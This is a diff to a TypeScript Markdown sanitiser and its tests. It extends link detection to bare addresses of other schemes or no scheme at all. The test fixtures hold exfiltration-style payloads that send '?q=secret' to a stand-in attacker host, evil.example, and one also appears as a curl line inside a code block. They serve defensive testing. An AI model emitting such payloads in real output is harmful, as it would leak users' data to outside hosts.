@@ -22,10 +22,14 @@ const client = 'https://client.example'
 const leadsOut = (node: Nodes) =>
   'url' in node && (node.type === 'image' || !URL.parse(node.url, client)?.href.startsWith(`${client}/`))
 
-/** What a client that renders GitHub's Markdown would load, or lead to elsewhere. */
+/** What clients make links of in plain text, beside what GitHub's Markdown does. */
+const linkified = /[a-z][a-z\d+.-]*:\/\/[^\s/]|(?:^|[\s\p{P}])\/\/[^\s/]/iu
+
+/** What a client that renders GitHub's Markdown, and makes links of addresses, would load or lead to elsewhere. */
 const findTargets = (markdown: string): string[] => {
   const visit = (node: Nodes): string[] => [
     ...('url' in node && leadsOut(node) ? [node.url] : []),
+    ...(node.type === 'text' && linkified.test(node.value) ? [node.value] : []),
     ...(node.type === 'html' ? [node.value] : []),
     ...('children' in node ? node.children.flatMap(visit) : []),
   ]
@@ -70,6 +74,13 @@ const hostile = {
   'a link behind an open backtick': 'a ` [click](https://evil.example/?q=secret) ` b',
   'a link behind backticks of two lengths': '`` ` [click](https://evil.example/`?q=secret) `` `',
   'a footnote': 'See[^1].\n\n[^1]: https://evil.example/?q=secret',
+  'a bare address of another scheme': 'See ftp://evil.example/?q=secret, or (ftp://evil.example/secret).',
+  'a bare address of a scheme that nobody knows': 'See xhttp://evil.example/?q=secret now.',
+  'a bare address without any scheme': 'See //evil.example/?q=secret now.',
+  'a bare address of another scheme in words':
+    '| a | b |\n| - | - |\n| **ftp://evil.example/?q=secret** | c |',
+  'a bare address in character references': 'See ftp&colon;//evil.example/?q=secret now.',
+  'a bare address with an escape': String.raw`See ftp\://evil.example/?q=secret now.`,
   'more marks than are parsed': `${'['.repeat(3_000)}click](https://evil.example/?q=secret)`,
   'quotes deeper than are parsed': `${'> '.repeat(200)}[click](https://evil.example/?q=secret)`,
 }
@@ -103,6 +114,7 @@ const harmless = {
   'a picture of the service with its host': `![a chart](https://platform.example.com${picture})`,
   'an address in code':
     '```\ncurl https://evil.example/?q=secret\n\ncurl again\n```\n\nAnd `https://evil.example`.',
+  'words with slashes and colons': 'Yes/no, and//or: 1:2, a: b // c, see §3/4.',
   'a table': '| a | b |\n| --- | --- |\n| 1 | [2] |\n\n- one\n  - two\n',
 }
 
@@ -119,6 +131,14 @@ describe('other Markdown stays as it is', () => {
 test('an address that is not allowed can be read beside its label', () => {
   expect(toSafeMarkdown('See [the page](https://evil.example/a) now.', addresses)).toBe(
     'See the page (`https://evil.example/a`) now.',
+  )
+})
+
+test('a bare address of another scheme can be read', () => {
+  const known = 'https://docs.example.com/guide?a=1&b=2'
+
+  expect(toSafeMarkdown(`See (ftp://evil.example/a), ${known} or //evil.example/b.`, addresses)).toBe(
+    `See (\`ftp://evil.example/a\`), ${known} or \`//evil.example/b\`.`,
   )
 })
 
